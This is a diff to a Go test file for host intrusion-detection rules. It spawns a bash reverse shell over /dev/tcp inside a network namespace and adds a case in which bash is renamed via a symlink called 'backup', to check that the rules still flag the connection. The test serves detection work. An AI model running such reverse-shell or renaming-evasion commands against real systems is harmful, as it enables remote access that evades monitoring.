@@ -892,9 +892,20 @@ func hostRuleTests(env *hostEnv) []ruleTest {
 				runOK(t, nil, "ip", "netns", "exec", env.netns, "bash", "-c",
 					"exec bash -i &>/dev/tcp/"+host+"/"+port+" 0>&1")
 				waitConn(t, env.shellConn, "bash reverse shell")
-				return []alert{{key: []string{"proc.name", "fd.name"}, want: fields{
-					"proc.name": "bash", "fd.name": contains("->" + env.shellAddr), "container.id": "host",
-				}}}
+				// A link to bash named backup connecting itself: the
+				// kernel resolves it to bash.
+				backup := filepath.Join(env.bin, "backup")
+				if err := os.Symlink("/bin/bash", backup); err != nil && !errors.Is(err, os.ErrExist) {
+					t.Fatal(err)
+				}
+				runOK(t, nil, "ip", "netns", "exec", env.netns, backup, "-c", "exec 3<>/dev/tcp/"+host+"/"+port)
+				waitConn(t, env.shellConn, "renamed bash reverse shell")
+				return []alert{
+					{key: []string{"proc.name", "fd.name"}, want: fields{
+						"proc.name": "bash", "fd.name": contains("->" + env.shellAddr), "container.id": "host",
+					}},
+					{key: []string{"proc.name", "fd.name"}, want: fields{"proc.name": "backup", "fd.name": contains("->" + env.shellAddr)}},
+				}
 			},
 			benign: func(t *testing.T) []alert {
 				// A shell talking to a local service (a health check), and a
